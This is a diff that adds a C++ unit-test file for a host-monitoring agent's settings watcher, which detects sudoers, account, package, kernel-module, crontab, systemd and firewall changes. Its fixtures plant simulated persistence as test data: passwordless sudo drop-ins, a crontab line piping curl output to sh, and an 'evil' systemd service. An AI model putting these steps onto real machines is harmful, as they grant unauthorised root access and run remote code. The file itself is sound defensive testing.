@@ -1,0 +1,518 @@
+#include "agent/sources/settings/settings_source.h"
+
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <condition_variable>
+#include <cstdio>
+#include <functional>
+#include <mutex>
+#include <string>
+#include <vector>
+
+#include <gtest/gtest.h>
+
+#include "common/crypto/crypto.h"
+#include "common/testing/testing.h"
+#include "common/time/clock.h"
+
+namespace custos::agent::settings {
+namespace {
+
+using custos::v1::Event;
+
+class CollectingSink : public EventSink {
+ public:
+  bool Push(Event&& event) override {
+    std::lock_guard<std::mutex> lock(mu_);
+    events_.push_back(std::move(event));
+    cv_.notify_all();
+    return true;
+  }
+  // Waits (condition variable, deadline) until an event matches.
+  std::optional<Event> WaitFor(const std::function<bool(const Event&)>& pred,
+                               std::chrono::milliseconds timeout = std::chrono::seconds(10)) {
+    std::unique_lock<std::mutex> lock(mu_);
+    std::optional<Event> found;
+    cv_.wait_for(lock, timeout, [&] {
+      for (const auto& e : events_) {
+        if (pred(e)) {
+          found = e;
+          return true;
+        }
+      }
+      return false;
+    });
+    return found;
+  }
+  std::vector<Event> Events() {
+    std::lock_guard<std::mutex> lock(mu_);
+    return events_;
+  }
+  void Clear() {
+    std::lock_guard<std::mutex> lock(mu_);
+    events_.clear();
+  }
+
+ private:
+  std::mutex mu_;
+  std::condition_variable cv_;
+  std::vector<Event> events_;
+};
+
+std::function<bool(const Event&)> Setting(const std::string& area, const std::string& key,
+                                          custos::v1::ObservedBy by) {
+  return [=](const Event& e) {
+    return e.has_setting() && e.setting().area() == area && e.setting().key() == key &&
+           e.setting().observed_by() == by;
+  };
+}
+
+std::function<bool(const Event&)> HealthAbout(const std::string& needle) {
+  return [=](const Event& e) {
+    return e.has_health() && e.health().level() == custos::v1::HEALTH_LEVEL_DEGRADED &&
+           e.health().message().find(needle) != std::string::npos;
+  };
+}
+
+std::string Sha(const std::string& content) {
+  return "sha256:" + crypto::HexEncode(crypto::Sha256(content));
+}
+
+// Replaces a file the way editors do (write a temp file, rename over).
+void Replace(const std::string& path, const std::string& content) {
+  ASSERT_TRUE(testing::WriteFile(path + ".tmp~", content).ok());
+  ASSERT_EQ(std::rename((path + ".tmp~").c_str(), path.c_str()), 0);
+}
+
+class SettingsSourceTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    for (const char* d : {"etc/sudoers.d", "etc/ssh", "etc/pam.d", "proc/1", "var/lib/dpkg",
+                          "opt/custos/spool", "state"}) {
+      ASSERT_EQ(system(("mkdir -p " + dir_.Sub(d)).c_str()), 0);
+    }
+    Write("etc/sudoers", "root ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n");
+    Write("etc/sudoers.d/ops", "bob ALL=(ALL) /usr/bin/systemctl\n");
+    Write("etc/passwd",
+          "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000:Bob:/home/bob:/bin/bash\n");
+    Write("etc/group", "root:x:0:\nsudo:x:27:bob\nbob:x:1000:\n");
+    Write("etc/shadow",
+          "root:*:19000:0:99999:7:::\nbob:$6$saltsalt$AAAAhashAAAA:19000:0:99999:7:::\n");
+    Write("proc/modules", "ext4 1000 1 - Live 0x0\nloop 200 0 - Live 0x0\n");
+    Write("proc/1/comm", "systemd\n");
+    Write("var/lib/dpkg/status", kDpkg);
+    Write("opt/custos/agent.yaml", "collector: 10.0.0.1:7443\n");
+    Write("opt/custos/custos-agent",
+          "\x7f"
+          "ELF v1");
+  }
+
+  SettingsSourceOptions Options() {
+    SettingsSourceOptions o;
+    o.root_prefix = dir_.path();
+    o.state_dir = dir_.Sub("state");
+    o.firewall_commands = {};
+    o.probe_interval = std::chrono::hours(1);
+    o.agent_config_path = "/opt/custos/agent.yaml";
+    o.agent_binary_path = "/opt/custos/custos-agent";
+    o.agent_spool_dir = "/opt/custos/spool";
+    return o;
+  }
+
+  std::unique_ptr<SettingsSource> StartSource(CollectingSink* sink) {
+    auto s = SettingsSource::Create(Options(), &clock_);
+    EXPECT_TRUE(s.ok()) << s.status().ToString();
+    auto source = std::move(*s);
+    Status st = source->Start(sink);
+    EXPECT_TRUE(st.ok()) << st.ToString();
+    return source;
+  }
+
+  void Write(const std::string& rel, const std::string& content) {
+    ASSERT_TRUE(testing::WriteFile(dir_.Sub(rel), content).ok());
+  }
+
+  static constexpr char kDpkg[] =
+      "Package: bash\nStatus: install ok installed\nVersion: 5.2-1\nDescription: shell\n"
+      " continuation line\n\nPackage: old\nStatus: deinstall ok config-files\nVersion: 1\n";
+
+  testing::TempDir dir_;
+  FakeClock clock_;
+};
+
+TEST_F(SettingsSourceTest, FirstStartRecordsBaselineWithoutChanges) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  for (const auto& e : sink.Events()) EXPECT_FALSE(e.has_setting()) << e.DebugString();
+  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_OK) << source->Health().message;
+  EXPECT_TRUE(::access(dir_.Sub("state/settings-state.v1").c_str(), F_OK) == 0);
+}
+
+TEST_F(SettingsSourceTest, SudoersDropInEditIsReportedByWatchWithHashesAndDiff) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  const std::string before = "bob ALL=(ALL) /usr/bin/systemctl\n";
+  const std::string after = before + "alice ALL=(ALL) NOPASSWD: ALL\n";
+  Write("etc/sudoers.d/ops", after);
+  auto e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e) << "no WATCH change for the sudoers drop-in";
+  EXPECT_EQ(e->setting().old_value(), Sha(before));
+  EXPECT_EQ(e->setting().new_value(), Sha(after));
+  EXPECT_EQ(e->setting().summary(), "+ alice ALL=(ALL) NOPASSWD: ALL");
+  EXPECT_TRUE(e->actor().partial());
+  EXPECT_EQ(e->actor().pid(), 0u);
+
+  // A new drop-in file is a creation in a watched directory.
+  Replace(dir_.Sub("etc/sudoers.d/zz-evil"), "mallory ALL=(ALL) NOPASSWD: ALL\n");
+  e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/zz-evil", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().old_value(), "");
+  EXPECT_EQ(e->setting().summary(), "created\n+ mallory ALL=(ALL) NOPASSWD: ALL");
+}
+
+TEST_F(SettingsSourceTest, SummaryIsCapped) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  std::string big;
+  for (int i = 0; i < 200; ++i) big += "user" + std::to_string(i) + " ALL=(ALL) ALL\n";
+  Write("etc/sudoers.d/ops", big);
+  auto e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e);
+  EXPECT_LE(e->setting().summary().size(), 512u + 32u);
+  EXPECT_NE(e->setting().summary().find("more)"), std::string::npos);
+}
+
+TEST_F(SettingsSourceTest, UserAddedToSudoGroupIsAnAccountChange) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  Replace(dir_.Sub("etc/group"), "root:x:0:\nsudo:x:27:bob,alice\nbob:x:1000:\n");
+  auto e = sink.WaitFor(Setting("account", "group:sudo", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e) << "no account change for group:sudo";
+  EXPECT_EQ(e->setting().new_value(), "alice added");
+  EXPECT_EQ(e->setting().summary(), "alice added to privileged group sudo");
+
+  Replace(dir_.Sub("etc/group"), "root:x:0:\nsudo:x:27:alice\nbob:x:1000:\n");
+  e = sink.WaitFor([](const Event& ev) {
+    return ev.has_setting() && ev.setting().key() == "group:sudo" &&
+           ev.setting().new_value() == "bob removed";
+  });
+  ASSERT_TRUE(e) << "no account change for bob leaving sudo";
+}
+
+TEST_F(SettingsSourceTest, UserCreatedAndDeleted) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  const std::string base =
+      "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000:Bob:/home/bob:/bin/bash\n";
+  Replace(dir_.Sub("etc/passwd"), base + "alice:x:1001:1001::/home/alice:/bin/sh\n");
+  auto e = sink.WaitFor(Setting("account", "user:alice", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().new_value(), "created");
+  EXPECT_EQ(e->setting().summary(), "user alice created (uid 1001, shell /bin/sh)");
+  // The file change itself is reported too.
+  ASSERT_TRUE(sink.WaitFor(Setting("accounts", "/etc/passwd", custos::v1::OBSERVED_BY_WATCH)));
+
+  sink.Clear();
+  Replace(dir_.Sub("etc/passwd"), base);
+  e = sink.WaitFor(Setting("account", "user:alice", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().new_value(), "deleted");
+}
+
+TEST_F(SettingsSourceTest, ShadowChangeNamesTheUserButNeverContentOrHashes) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  Replace(dir_.Sub("etc/shadow"),
+          "root:*:19000:0:99999:7:::\nbob:$6$saltsalt$BBBBhashBBBB:19500:0:99999:7:::\n");
+  auto e = sink.WaitFor(Setting("accounts", "/etc/shadow", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().summary(), "password hash changed for user bob");
+  for (const auto& ev : sink.Events()) {
+    const std::string all = ev.DebugString();
+    EXPECT_EQ(all.find("$6$"), std::string::npos) << all;
+    EXPECT_EQ(all.find("hash"
+                       "BBBB"),
+              std::string::npos);
+    if (ev.has_setting() && ev.setting().key() == "/etc/shadow") {
+      EXPECT_EQ(ev.setting().old_value().find("sha256:"), std::string::npos);
+      EXPECT_EQ(ev.setting().new_value().find("sha256:"), std::string::npos);
+    }
+  }
+  source->Stop();
+  auto state = testing::ReadFile(dir_.Sub("state/settings-state.v1"));
+  ASSERT_TRUE(state.ok());
+  EXPECT_EQ(state->find("$6$"), std::string::npos) << "shadow content persisted";
+}
+
+TEST_F(SettingsSourceTest, DpkgPackageChangesAreFoundByProbe) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  Write("var/lib/dpkg/status",
+        "Package: bash\nStatus: install ok installed\nVersion: 5.2-2\n\n"
+        "Package: netcat\nStatus: install ok installed\nVersion: 1.10\n");
+  source->ProbeNow();
+  auto e = sink.WaitFor(Setting("packages", "dpkg", custos::v1::OBSERVED_BY_PROBE),
+                        std::chrono::milliseconds(0));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().summary(), "upgraded bash 5.2-1 -> 5.2-2\ninstalled netcat 1.10");
+  sink.Clear();
+  Write("var/lib/dpkg/status", "Package: bash\nStatus: install ok installed\nVersion: 5.2-2\n");
+  source->ProbeNow();
+  e = sink.WaitFor(Setting("packages", "dpkg", custos::v1::OBSERVED_BY_PROBE),
+                   std::chrono::milliseconds(0));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().summary(), "removed netcat 1.10");
+}
+
+TEST_F(SettingsSourceTest, KernelModulesAndAuditdAreProbed) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  Write("proc/modules", "ext4 1000 1 - Live 0x0\nusb_storage 80000 0 - Live 0x0\n");
+  ASSERT_EQ(system(("mkdir -p " + dir_.Sub("proc/4242")).c_str()), 0);
+  Write("proc/4242/comm", "auditd\n");
+  source->ProbeNow();
+  auto e = sink.WaitFor(Setting("kernel", "modules", custos::v1::OBSERVED_BY_PROBE),
+                        std::chrono::milliseconds(0));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().summary(), "- module loop\n+ module usb_storage");
+  e = sink.WaitFor(Setting("audit", "auditd", custos::v1::OBSERVED_BY_PROBE),
+                   std::chrono::milliseconds(0));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().old_value(), "not running");
+  EXPECT_EQ(e->setting().new_value(), "running");
+}
+
+TEST_F(SettingsSourceTest, AgentTamperingIsReported) {
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  Write("opt/custos/agent.yaml", "collector: 10.0.0.1:7443\nsources: []\n");
+  ASSERT_TRUE(
+      sink.WaitFor(Setting("agent", "/opt/custos/agent.yaml", custos::v1::OBSERVED_BY_WATCH)));
+  Replace(dir_.Sub("opt/custos/custos-agent"),
+          "\x7f"
+          "ELF v2 trojan");
+  auto e =
+      sink.WaitFor(Setting("agent", "/opt/custos/custos-agent", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().new_value(), Sha("\x7f"
+                                          "ELF v2 trojan"));
+  EXPECT_EQ(e->setting().summary(), "binary replaced");
+  ASSERT_EQ(rmdir(dir_.Sub("opt/custos/spool").c_str()), 0);
+  e = sink.WaitFor(Setting("agent", "/opt/custos/spool", custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().new_value(), "missing");
+}
+
+TEST_F(SettingsSourceTest, CrontabsAndSystemdEnableLinksInSubdirectoriesAreWatched) {
+  ASSERT_EQ(system(("mkdir -p " + dir_.Sub("etc/systemd/system/multi-user.target.wants") + " " +
+                    dir_.Sub("var/spool/cron"))
+                       .c_str()),
+            0);
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  // A directory created after Start, with a file written into it at once.
+  ASSERT_EQ(
+      system(("mkdir " + dir_.Sub("var/spool/cron/crontabs") + " && echo '* * * * * curl x|sh'" +
+              " > " + dir_.Sub("var/spool/cron/crontabs/alice"))
+                 .c_str()),
+      0);
+  // The shell creates the file empty, then writes it: one or two changes, the last with the line.
+  auto e = sink.WaitFor([](const Event& ev) {
+    return ev.has_setting() && ev.setting().key() == "/var/spool/cron/crontabs/alice" &&
+           ev.setting().observed_by() == custos::v1::OBSERVED_BY_WATCH &&
+           ev.setting().summary().find("+ * * * * * curl x|sh") != std::string::npos;
+  });
+  ASSERT_TRUE(e) << "crontab in a new subdirectory not seen";
+  EXPECT_EQ(e->setting().area(), "cron");
+
+  Write("etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/evil\n");
+  ASSERT_TRUE(sink.WaitFor(
+      Setting("systemd", "/etc/systemd/system/evil.service", custos::v1::OBSERVED_BY_WATCH)));
+  ASSERT_EQ(symlink("../evil.service",
+                    dir_.Sub("etc/systemd/system/multi-user.target.wants/evil.service").c_str()),
+            0);
+  e = sink.WaitFor(Setting("systemd", "/etc/systemd/system/multi-user.target.wants/evil.service",
+                           custos::v1::OBSERVED_BY_WATCH));
+  ASSERT_TRUE(e) << "systemd enable link not seen";
+  EXPECT_NE(e->setting().summary().find("+ ExecStart=/tmp/evil"), std::string::npos);
+}
+
+TEST_F(SettingsSourceTest, UnreadableOrUnparsableFilesGiveHealthEventsAndTheSourceGoesOn) {
+  CollectingSink sink;
+  ASSERT_EQ(mkfifo(dir_.Sub("etc/sudoers.d/pipe").c_str(), 0600), 0);
+  Write("var/lib/dpkg/status", "Package: bash\n\xff\xfe garbage without a colon\n");
+  auto source = StartSource(&sink);
+  ASSERT_TRUE(sink.WaitFor(HealthAbout("/etc/sudoers.d/pipe: not a regular file"),
+                           std::chrono::milliseconds(0)));
+  ASSERT_TRUE(
+      sink.WaitFor(HealthAbout("/var/lib/dpkg/status: line 2"), std::chrono::milliseconds(0)));
+  EXPECT_EQ(source->Health().level, custos::v1::HEALTH_LEVEL_DEGRADED);
+
+  Replace(dir_.Sub("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\nthis line is broken\n");
+  auto h = sink.WaitFor(HealthAbout("/etc/passwd: line 2"));
+  ASSERT_TRUE(h);
+  EXPECT_EQ(h->health().component(), "source.settings");
+  // Still working: a later change is reported.
+  Write("etc/sudoers.d/ops", "bob ALL=(ALL) ALL\n");
+  ASSERT_TRUE(
+      sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_WATCH)));
+  // Each problem is reported once, not on every round.
+  source->ProbeNow();
+  source->ProbeNow();
+  int pipe_reports = 0;
+  for (const auto& e : sink.Events()) {
+    if (HealthAbout("/etc/sudoers.d/pipe")(e)) ++pipe_reports;
+  }
+  EXPECT_EQ(pipe_reports, 1);
+}
+
+TEST_F(SettingsSourceTest, RandomBytesInEveryParsedFileNeverCrash) {
+  uint32_t x = 12345;
+  auto random_bytes = [&x](size_t n) {
+    std::string out;
+    for (size_t i = 0; i < n; ++i) {
+      x = x * 1664525u + 1013904223u;
+      // Mostly separators and newlines so the parsers get deep.
+      const char alphabet[] = ":: \n\n,\\sa1\xff\xc3";
+      out += (x >> 24) % 4 == 0 ? static_cast<char>(x >> 16) : alphabet[(x >> 16) % 12];
+    }
+    return out;
+  };
+  for (int round = 0; round < 20; ++round) {
+    for (const char* f : {"etc/passwd", "etc/group", "etc/shadow", "etc/sudoers",
+                          "var/lib/dpkg/status", "proc/modules", "state/settings-state.v1"}) {
+      Write(f, random_bytes(1 + x % 400));
+    }
+    CollectingSink sink;
+    auto source = StartSource(&sink);
+    source->ProbeNow();
+    source->Stop();
+    for (const auto& e : sink.Events()) {
+      // Serialising checks that every string field is valid UTF-8.
+      std::string bytes;
+      EXPECT_TRUE(e.SerializeToString(&bytes));
+      custos::v1::Event back;
+      EXPECT_TRUE(back.ParseFromString(bytes)) << e.ShortDebugString();
+    }
+  }
+}
+
+TEST_F(SettingsSourceTest, CorruptStateFileIsAHealthEventNotACrash) {
+  Write("state/settings-state.v1", "custos-settings-state v1\nitem \\q 1 2 3\n");
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  ASSERT_TRUE(sink.WaitFor(HealthAbout("settings-state.v1"), std::chrono::milliseconds(0)));
+}
+
+TEST_F(SettingsSourceTest, ChangesMadeWhileDownAreReportedAtStart) {
+  {
+    CollectingSink sink;
+    auto source = StartSource(&sink);
+    source->Stop();
+  }
+  // "While down": a sudoers edit, a new user, a removed drop-in, a new module.
+  Write("etc/sudoers", "root ALL=(ALL:ALL) ALL\nalice ALL=(ALL) NOPASSWD: ALL\n");
+  Write("etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000:Bob:/home/bob:/bin/bash\n"
+        "alice:x:1001:1001::/home/alice:/bin/bash\n");
+  ASSERT_EQ(unlink(dir_.Sub("etc/sudoers.d/ops").c_str()), 0);
+  Write("proc/modules", "ext4 1000 1 - Live 0x0\nloop 200 0 - Live 0x0\nevil 1 0 - Live 0x0\n");
+
+  CollectingSink sink;
+  auto source = StartSource(&sink);
+  auto e = sink.WaitFor(Setting("sudoers", "/etc/sudoers", custos::v1::OBSERVED_BY_PROBE),
+                        std::chrono::milliseconds(0));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().summary(),
+            "- #includedir /etc/sudoers.d\n+ alice ALL=(ALL) NOPASSWD: ALL");
+  ASSERT_TRUE(sink.WaitFor(Setting("account", "user:alice", custos::v1::OBSERVED_BY_PROBE),
+                           std::chrono::milliseconds(0)));
+  e = sink.WaitFor(Setting("sudoers", "/etc/sudoers.d/ops", custos::v1::OBSERVED_BY_PROBE),
+                   std::chrono::milliseconds(0));
+  ASSERT_TRUE(e);
+  EXPECT_EQ(e->setting().summary(), "deleted");
+  EXPECT_EQ(e->setting().new_value(), "");
+  ASSERT_TRUE(sink.WaitFor(Setting("kernel", "modules", custos::v1::OBSERVED_BY_PROBE),
+                           std::chrono::milliseconds(0)));
+}
+
+TEST(SettingsSourceCreateTest, RejectsRelativePathsAndZeroInterval) {
+  FakeClock clock;
+  SettingsSourceOptions o;
+  o.watched = {{"sudoers", "etc/sudoers"}};
+  EXPECT_FALSE(CreateSettingsSource(o, &clock).ok());
+  o.watched = {};
+  o.probe_interval = std::chrono::seconds(0);
+  EXPECT_FALSE(CreateSettingsSource(o, &clock).ok());
+}
+
+// Real kernel: a scratch nftables table added and removed is seen by the firewall probe.
+TEST(SettingsSourceRealTest, NftablesRuleAddedAndRemovedIsDetectedByProbe) {
+  if (::access("/usr/sbin/nft", X_OK) != 0) {
+    GTEST_SKIP() << "NOT TESTED: /usr/sbin/nft is missing (apt-get install nftables)";
+  }
+  auto probe = testing::Run({"/usr/sbin/nft", "list", "ruleset"}, std::chrono::seconds(10));
+  if (probe.exit_code != 0) {
+    GTEST_SKIP() << "NOT TESTED: 'nft list ruleset' fails here (needs root/CAP_NET_ADMIN): "
+                 << probe.err;
+  }
+  testing::Run({"/usr/sbin/nft", "delete", "table", "inet", "custos_test"},
+               std::chrono::seconds(10));
+  testing::TempDir dir;
+  SettingsSourceOptions o;
+  o.watched = {};
+  o.state_dir = dir.Sub("state");
+  o.probe_interval = std::chrono::hours(1);
+  o.firewall_commands = {{"/usr/sbin/nft", "list", "ruleset"}};
+  auto created = SettingsSource::Create(o, RealClock());
+  ASSERT_TRUE(created.ok());
+  auto source = std::move(*created);
+  CollectingSink sink;
+  ASSERT_TRUE(source->Start(&sink).ok());
+
+  struct Cleanup {
+    ~Cleanup() {
+      testing::Run({"/usr/sbin/nft", "delete", "table", "inet", "custos_test"},
+                   std::chrono::seconds(10));
+    }
+  } cleanup;
+  for (const auto& cmd : std::vector<std::vector<std::string>>{
+           {"/usr/sbin/nft", "add", "table", "inet", "custos_test"},
+           {"/usr/sbin/nft", "add", "chain", "inet", "custos_test", "input",
+            "{ type filter hook input priority 0; policy accept; }"},
+           {"/usr/sbin/nft", "add", "rule", "inet", "custos_test", "input", "tcp", "dport", "65111",
+            "counter", "drop"}}) {
+    auto r = testing::Run(cmd, std::chrono::seconds(10));
+    ASSERT_EQ(r.exit_code, 0) << cmd[2] << ": " << r.err;
+  }
+  source->ProbeNow();
+  auto e = sink.WaitFor(Setting("firewall", "ruleset", custos::v1::OBSERVED_BY_PROBE),
+                        std::chrono::milliseconds(0));
+  ASSERT_TRUE(e) << "firewall probe missed the added rule";
+  EXPECT_NE(e->setting().summary().find("+ table inet custos_test {"), std::string::npos)
+      << e->setting().summary();
+  EXPECT_NE(e->setting().summary().find("+ tcp dport 65111 counter packets bytes drop"),
+            std::string::npos)
+      << e->setting().summary();
+  EXPECT_NE(e->setting().old_value(), e->setting().new_value());
+
+  sink.Clear();
+  source->ProbeNow();  // counters only differ: nothing to report
+  EXPECT_FALSE(sink.WaitFor(Setting("firewall", "ruleset", custos::v1::OBSERVED_BY_PROBE),
+                            std::chrono::milliseconds(0)));
+
+  auto r = testing::Run({"/usr/sbin/nft", "delete", "table", "inet", "custos_test"},
+                        std::chrono::seconds(10));
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  source->ProbeNow();
+  e = sink.WaitFor(Setting("firewall", "ruleset", custos::v1::OBSERVED_BY_PROBE),
+                   std::chrono::milliseconds(0));
+  ASSERT_TRUE(e) << "firewall probe missed the removed table";
+  EXPECT_NE(e->setting().summary().find("- table inet custos_test {"), std::string::npos)
+      << e->setting().summary();
+  source->Stop();
+}
+
+}  // namespace
+}  // namespace custos::agent::settings
